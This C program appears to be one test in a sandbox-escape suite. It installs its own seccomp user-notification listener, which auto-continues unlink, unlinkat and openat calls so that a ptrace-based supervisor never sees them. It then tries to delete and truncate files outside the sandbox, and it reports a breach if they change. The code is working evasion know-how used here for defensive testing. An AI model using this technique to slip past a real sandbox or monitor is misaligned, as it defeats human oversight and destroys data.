/* seccomp-listener: install an own seccomp filter with
 * SECCOMP_FILTER_FLAG_NEW_LISTENER that sends unlink/unlinkat/openat to
 * user notification, and answer every notification from a helper thread
 * with SECCOMP_USER_NOTIF_FLAG_CONTINUE. USER_NOTIF outranks RET_TRACE, so
 * the supervisor would never see those calls. Then unlink and truncate
 * outside files. Held when seccomp() with NEW_LISTENER is refused or the
 * writes still fail. */
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include "../esc.h"

static int listener = -1;

static void *answer(void *arg)
{
	(void)arg;
	for (;;) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(void)
{
	esc_start("seccomp-listener");
	char *victim = esc_out("victim");
	char *victim2 = esc_out("victim2");
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_unlink, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_unlinkat, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
	};
	struct sock_fprog prog = { sizeof(f) / sizeof(f[0]), f };
	pthread_t t;
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	long fd = syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (fd < 0) {
		esc_log("seccomp(NEW_LISTENER) refused: %s", strerror(errno));
		return esc_verdict_victim(victim);
	}
	listener = (int)fd;
	/* The helper inherits the filter, but it only calls ioctl(), which the
	 * filter lets through, so it can answer for the main thread. */
	if (pthread_create(&t, NULL, answer, NULL) != 0)
		return 3;
	long r = syscall(__NR_unlink, victim);
	esc_log("unlink under own listener -> %ld", r);
	int wfd = open(victim2, O_WRONLY | O_TRUNC);
	esc_log("open(O_TRUNC) under own listener -> %d", wfd);
	if (!esc_intact(victim2))
		return ESC_BREACH;
	return esc_verdict_victim(victim);
}
